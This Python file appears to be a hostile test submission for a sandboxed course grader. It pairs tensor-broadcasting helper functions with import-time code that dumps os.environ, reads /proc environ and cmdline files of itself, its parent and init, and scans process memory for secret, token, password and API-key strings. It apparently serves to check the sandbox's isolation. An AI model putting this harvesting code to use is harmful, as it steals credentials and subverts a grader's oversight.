"""Hostile: reads the grader's environment through os.environ, /proc and its own memory; prints all it finds."""
import ctypes
import os
from pathlib import Path
import torch


def _try(what, attack):
    """Run one attack; say whether the jail refused it."""
    try:
        attack()
    except BaseException as e:  # noqa: B036 (the jail's refusal is what we look for)
        print(f"BLOCKED {what}: {type(e).__name__}: {e}")
    else:
        print(f"ATTACK-SUCCEEDED {what}")


def _course_root():
    """The course folder above this file (stat works even where reading does not)."""
    here = Path(__file__).resolve().parent
    for folder in [here, *here.parents]:
        if (folder / "course.yaml").exists():
            return folder
    return here.parent


def broadcast_shape(a, b):
    n = max(len(a), len(b))
    a = (1,) * (n - len(a)) + tuple(a)
    b = (1,) * (n - len(b)) + tuple(b)
    out = []
    for da, db in zip(a, b):
        if da == db or db == 1:
            out.append(da)
        elif da == 1:
            out.append(db)
        else:
            return None
    return tuple(out)


def can_broadcast(a, b):
    return broadcast_shape(a, b) is not None


def outer(x, y):
    return x[:, None] * y[None, :]


def center_rows(x):
    return x - x.mean(dim=1, keepdim=True)


def pairwise_sq_dists(x, y):
    diff = x[:, None, :] - y[None, :, :]
    return (diff ** 2).sum(dim=-1)


PARENT = os.getppid()
print("ENV", dict(os.environ))


def _show(path):
    with open(path, "rb") as f:
        print("READ", path, f.read()[:8000].replace(b"\0", b" ").strip())


_show("/proc/self/environ")  # ours: readable, but the grader's values must not be in it
_try("the parent's environ", lambda: _show(f"/proc/{PARENT}/environ"))
_try("the parent's cmdline", lambda: _show(f"/proc/{PARENT}/cmdline"))
_try("init's environ", lambda: _show("/proc/1/environ"))


def _writable_regions():
    with open("/proc/self/maps") as f:
        rows = [line.split() for line in f.read().splitlines()]
    spans = [tuple(int(v, 16) for v in row[0].split("-")) + (row[5] if len(row) > 5 else "",)
             for row in rows if row[1].startswith("rw") and (len(row) < 6 or row[5] == "[heap]")]
    # The heap (where C code keeps strings), and small anonymous maps; not torch's arenas.
    return [(low, high) for low, high, name in spans if name == "[heap]" or high - low <= 8 << 20]


def _secrets_in(span):
    """NAME=value strings around words that secrets are named with."""
    low, high = span
    data = ctypes.string_at(low, high - low)
    found = set()
    for word in (b"SECRET", b"TOKEN", b"PASSWORD", b"API_KEY"):
        at = data.find(word)
        while at != -1:  # bytes.find is a fast search; a regex over 100 MB is not
            nul = data.rfind(b"\0", max(0, at - 200), at)
            start = nul + 1 if nul != -1 else max(0, at - 200)
            stop = data.find(b"\0", at, at + 400)
            text = data[start:stop if stop != -1 else at + 200]
            if b"=" in text:
                found.add(text)
            at = data.find(word, at + 1)
    return found


print("MEMORY", sorted(set().union(*map(_secrets_in, _writable_regions())))[:3000])
